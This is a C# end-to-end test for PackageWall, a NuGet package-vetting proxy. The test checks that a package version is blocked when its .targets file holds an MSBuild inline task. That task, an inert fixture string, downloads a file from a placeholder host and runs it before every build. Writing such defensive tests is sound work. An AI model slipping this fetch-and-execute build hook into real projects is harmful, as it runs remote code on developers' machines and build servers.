using System.Net;
using System.Text.Json.Nodes;
using PackageWall.EndToEnd.Tests.Clients;
using PackageWall.Testing.Packages;
using static PackageWall.EndToEnd.Tests.NuGet.NuGetWorld;

namespace PackageWall.EndToEnd.Tests.NuGet;

/// <summary>Bar 4: a version whose build file compiles and runs code on every build, judged by the product's own inspection.</summary>
[Collection(NuGetCollection.Name)]
public sealed class InlineTaskTests
{
    [Fact]
    public async Task Dotnet_gets_the_version_before_an_inline_task_and_prints_why()
    {
        await using NuGetWorld world = await StartAsync(real: true);
        world.Source.Publish(new NupkgBuilder("PwDemo", "1.0.0").Framework().Targets("  <PropertyGroup><PwDemo>1</PwDemo></PropertyGroup>"), LongAgo);
        world.Source.Publish(new NupkgBuilder("PwDemo", "1.1.0").Framework().Targets(InlineTask), LongAgo);

        using var floating = new Dotnet(world.Index);
        floating.Project(("PwDemo", "1.*"));
        ClientRun older = (await floating.RestoreAsync()).ShouldSucceed();
        floating.Resolved()["PwDemo"].ShouldBe("1.0.0");
        older.Output.ShouldContain("PackageWall: pwdemo 1.1.0 is blocked");

        using var pinned = new Dotnet(world.Index);
        pinned.Project(("PwDemo", "[1.1.0]"));
        ClientRun refused = (await pinned.RestoreAsync()).ShouldFail();
        refused.Output.ShouldContain("warning : PackageWall: pwdemo 1.1.0 is blocked");
        refused.Output.ShouldContain("newest allowed: 1.0.0");
        Directory.Exists(Path.Combine(pinned.Packages, "pwdemo")).ShouldBeFalse();

        JsonNode record = await world.RecordAsync("PwDemo", "1.1.0");
        record.ToJsonString().ShouldContain("msbuild-inline-task-reaches-out");
        record.ToJsonString().ShouldContain("build/PwDemo.targets");
        using HttpResponseMessage package = await world.PackageAsync("PwDemo", "1.1.0");
        package.StatusCode.ShouldBe(HttpStatusCode.NotFound);

        Seen.Write("dotnet restore", "the newest version runs code on every build; the project asks for 1.*", older, world.Wall.Address);
        Seen.Write("dotnet restore", "the same version, pinned as [1.1.0]", refused, world.Wall.Address);
    }

    // Inert: nothing builds the project, and the host does not exist.
    private const string InlineTask = """
          <UsingTask TaskName="PrepareAssets" TaskFactory="RoslynCodeTaskFactory" AssemblyFile="$(MSBuildToolsPath)\Microsoft.Build.Tasks.Core.dll">
            <Task>
              <Using Namespace="System.Net" />
              <Using Namespace="System.Diagnostics" />
              <Code Type="Fragment" Language="cs"><![CDATA[
                string file = System.IO.Path.GetTempFileName();
                new WebClient().DownloadFile("https://assets.invalid/prepare", file);
                Process.Start(file);
              ]]></Code>
            </Task>
          </UsingTask>
          <Target Name="PrepareAssetsBeforeBuild" BeforeTargets="BeforeBuild">
            <PrepareAssets />
          </Target>
        """;
}
